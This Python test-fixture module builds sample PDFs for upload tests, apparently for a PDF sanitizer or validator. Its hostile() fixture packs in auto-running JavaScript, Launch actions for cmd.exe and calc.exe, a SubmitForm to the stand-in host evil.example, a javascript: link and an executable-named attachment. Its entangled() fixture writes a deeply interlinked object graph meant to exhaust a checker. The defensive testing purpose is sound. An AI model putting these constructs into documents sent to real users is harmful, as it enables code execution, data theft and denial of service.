"""PDFs that the tests upload: plain ones, and such as do harm."""

from __future__ import annotations

import io
from typing import Any

import pikepdf


def _bytes(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def plain(pages: int = 2) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 300))
    return _bytes(pdf)


def encrypted(password: str = "secret") -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain()))
    return _bytes(pdf, encryption=pikepdf.Encryption(owner=password, user=password))


def restricted() -> bytes:
    """Opens without a password, and is encrypted all the same."""
    pdf = pikepdf.open(io.BytesIO(plain()))
    return _bytes(pdf, encryption=pikepdf.Encryption(owner="owner", user=""))


def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)


def hostile() -> bytes:
    """A PDF with everything that acts by itself or carries something along."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 300))
    script = _action("JavaScript", JS=pikepdf.String("app.alert('opened')"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = pikepdf.Dictionary(WC=_action("JavaScript", JS=pikepdf.String("app.alert('closed')")))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("go"), _action("JavaScript", JS=pikepdf.String("steal()"))])
        )
    )
    pdf.attachments["virus.exe"] = b"MZ-attached"
    page.obj.AA = pikepdf.Dictionary(O=_action("Launch", F=pikepdf.String("calc.exe")))
    link: dict[str, Any] = {
        "Type": pikepdf.Name.Annot,
        "Subtype": pikepdf.Name.Link,
        "Rect": pikepdf.Array([0, 0, 9, 9]),
    }
    page.obj.Annots = pikepdf.Array(
        [
            pdf.make_indirect(pikepdf.Dictionary(**link, A=_action("Launch", F=pikepdf.String("cmd.exe")))),
            pikepdf.Dictionary(**link, A=_action("SubmitForm", F=pikepdf.String("https://evil.example"))),
            pikepdf.Dictionary(**link, A=_action("URI", URI=pikepdf.String("javascript:steal()"))),
            pikepdf.Dictionary(**link, A=_action("URI", URI=pikepdf.String("https://example.org/kept"))),
            pikepdf.Dictionary(
                **link,
                A=_action(
                    "GoTo",
                    D=pikepdf.Array([page.obj, pikepdf.Name.Fit]),
                    Next=pikepdf.Array([_action("JavaScript", JS=pikepdf.String("next()"))]),
                ),
            ),
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=pikepdf.Array([0, 0, 9, 9])
            ),
        ]
    )
    field = pikepdf.Dictionary(
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("name"),
        AA=pikepdf.Dictionary(K=_action("JavaScript", JS=pikepdf.String("typed()"))),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([pdf.make_indirect(field)]), XFA=pikepdf.String("<xfa>script</xfa>")
    )
    return _bytes(pdf)


def entangled(objects: int = 120_000) -> bytes:
    """A PDF of many small objects that hold each other: about as long to check as it has objects."""
    things = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/X 4 0 R>>",
        *(b"[[][][][][][]%d 0 R]" % number for number in range(5, objects + 1)),
        b"[]",
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, thing in enumerate(things, 1):
        places.append(b"%010d 00000 n \n" % len(out))
        out += b"%d 0 obj%s\nendobj\n" % (number, thing)
    size = len(things) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(places)
    return bytes(out) + table + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, len(out))
